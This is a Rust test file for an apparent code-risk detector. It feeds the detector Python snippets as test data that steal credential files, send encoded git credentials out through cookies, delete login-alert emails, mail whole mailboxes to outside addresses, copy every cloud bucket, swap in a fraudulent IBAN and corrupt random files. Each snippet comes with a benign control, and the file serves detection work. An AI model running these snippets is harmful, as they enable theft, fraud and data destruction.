//! Behaviour tests for the seventh round (what blind batch 6 showed the
//! sixth round's rules missed), spelled unlike the corpus, each with a
//! benign control.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

#[test]
fn own_login_files_are_medium_and_system_stores_stay_high() {
    // The user's own kubeconfig rewritten: MEDIUM.
    let own = "import os\np = os.path.join(os.path.expanduser('~'), '.kube/config')\ntext = open(p).read()\nopen(p, 'w').write(text.replace('old', 'new'))\n";
    let a = run(own);
    assert!(rules(&a).contains(&"MB222"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium, "{:?}", a.findings);
    // The system's password hashes, another user's key, a pattern over
    // every home's keys: HIGH.
    for store in [
        "/etc/gshadow",
        "/home/alice/.ssh/id_rsa",
        "/home/*/.aws/credentials",
        "~bob/.netrc",
    ] {
        let a = run(&format!(
            "data = open('{store}').read()\nprint(len(data))\n"
        ));
        assert!(rules(&a).contains(&"MB205"), "{store}: {:?}", a.findings);
        assert_eq!(a.verdict, Verdict::High, "{store}: {:?}", a.findings);
    }
}

#[test]
fn secrets_encoded_into_cookies_of_a_session_handed_around() {
    // A session kept by a caller, a cookie built by a generator: the flow,
    // not the credential path, makes it BLOCKED.
    let leak = "import base64, requests\ndef pieces():\n    raw = open('.git-credentials', 'rb').read()\n    enc = base64.b32encode(raw).decode()\n    for i in range(0, len(enc), 40):\n        yield {'vid': enc[i:i + 40]}\ndef hit(sess, jar):\n    sess.get('https://pixel.example.net/t.gif', cookies=jar)\nclient = requests.Session()\nfor jar in pieces():\n    hit(client, jar)\n";
    let a = run(leak);
    let f = finding(&a, "MB948");
    assert_eq!(f.line, 8);
    assert_eq!(a.verdict, Verdict::Blocked);
    // The same session sending an API token where tokens go.
    let token = "import os, requests\ndef hit(sess, tok):\n    sess.get('https://api.example.net/me', headers={'Authorization': 'Bearer ' + tok})\nhit(requests.Session(), os.environ['API_TOKEN'])\n";
    let a = run(token);
    assert!(!rules(&a).contains(&"MB948"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

#[test]
fn security_notices_deleted_and_mailboxes_mailed_out() {
    let alerts = "import imaplib\nm = imaplib.IMAP4_SSL('imap.example.org')\nm.login('me', 'pw')\nm.select('INBOX')\nfor words in ('new login', 'password change'):\n    typ, hits = m.search(None, 'SUBJECT', words)\n    for n in hits[0].split():\n        m.store(n, '+FLAGS', r'\\Deleted')\nm.expunge()\n";
    let a = run(alerts);
    assert!(rules(&a).contains(&"MB223"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::High);
    let promos = alerts
        .replace("'new login'", "'sale'")
        .replace("'password change'", "'webinar'");
    assert!(!rules(&run(&promos)).contains(&"MB223"));
    // Whole messages zipped and mailed to a fixed address.
    let shipped = "import imaplib, io, smtplib, zipfile\nfrom email.message import EmailMessage\nm = imaplib.IMAP4_SSL('imap.example.org')\nm.select('INBOX')\nbuf = io.BytesIO()\nz = zipfile.ZipFile(buf, 'w')\nfor n in m.search(None, 'ALL')[1][0].split():\n    z.writestr(n.decode(), m.fetch(n, '(RFC822)')[1][0][1])\nz.close()\nmsg = EmailMessage()\nmsg['To'] = 'keep@mailstash.example'\nmsg.add_attachment(buf.getvalue(), maintype='application', subtype='zip')\nsmtplib.SMTP('smtp.example.org').send_message(msg)\n";
    assert!(rules(&run(shipped)).contains(&"MB950"));
    // Subjects only, mailed to the team: no whole message leaves.
    let digest = shipped.replace("(RFC822)", "(BODY.PEEK[HEADER.FIELDS (SUBJECT)])");
    assert!(!rules(&run(&digest)).contains(&"MB950"));
}

#[test]
fn cloud_changes_spelled_through_names_and_copies() {
    // The open rule kept in a module-level list of dictionaries.
    let open = "import boto3\nWORLD = '0.0.0.0/0'\nRULES = [{'IpProtocol': '-1', 'IpRanges': [{'CidrIp': WORLD}]}]\nec2 = boto3.client('ec2')\nec2.authorize_security_group_ingress(GroupId='sg-1', IpPermissions=RULES)\n";
    assert!(rules(&run(open)).contains(&"MB221"));
    // Every listed bucket's objects read and put into a fixed bucket.
    let copy = "import boto3\ns3 = boto3.client('s3')\nfor b in s3.list_buckets()['Buckets']:\n    for o in s3.list_objects_v2(Bucket=b['Name']).get('Contents', []):\n        body = s3.get_object(Bucket=b['Name'], Key=o['Key'])['Body']\n        s3.upload_fileobj(body, 'collect-9', o['Key'])\n";
    let a = run(copy);
    assert!(rules(&a).contains(&"MB949"), "{:?}", a.findings);
}

#[test]
fn found_files_rewritten_with_a_built_iban_or_random_picks() {
    let iban = "import glob, re\ndef mine():\n    bban = '370400440532013000'\n    n = int(''.join(str(int(c, 36)) for c in bban + 'DE00'))\n    return 'DE%02d%s' % (98 - n % 97, bban)\nfor f in glob.glob('/srv/bills/*.txt'):\n    t = open(f).read()\n    open(f, 'w').write(re.sub(r'[A-Z]{2}\\d{2}[A-Z0-9]{12,30}', mine(), t))\n";
    assert!(rules(&run(iban)).contains(&"MB951"));
    // Test IBANs generated into a new file.
    let fixtures = "import random\nb = ''.join(random.choice('0123456789') for _ in range(18))\nn = int(''.join(str(int(c, 36)) for c in b + 'DE00'))\nopen('ibans.txt', 'w').write('DE%02d%s' % (98 - n % 97, b))\n";
    assert!(run(fixtures).verdict < Verdict::High);
    // A random pick of the files a walk found, overwritten in place.
    let pick = "import os, random\nfound = [os.path.join(d, f) for d, _, fs in os.walk('/srv/data') for f in fs]\nfor p in random.sample(found, 5):\n    with open(p, 'r+b') as fh:\n        fh.write(os.urandom(32))\n";
    assert!(rules(&run(pick)).contains(&"MB953"));
    // Mutated copies of a random pick, written to new files.
    let fuzz = "import glob, os, random\nfor i, s in enumerate(random.sample(glob.glob('seeds/*'), 3)):\n    data = bytearray(open(s, 'rb').read())\n    data[0] = random.randrange(256)\n    open(os.path.join('out', f'{i}.bin'), 'wb').write(data)\n";
    assert!(!rules(&run(fuzz)).contains(&"MB953"));
}
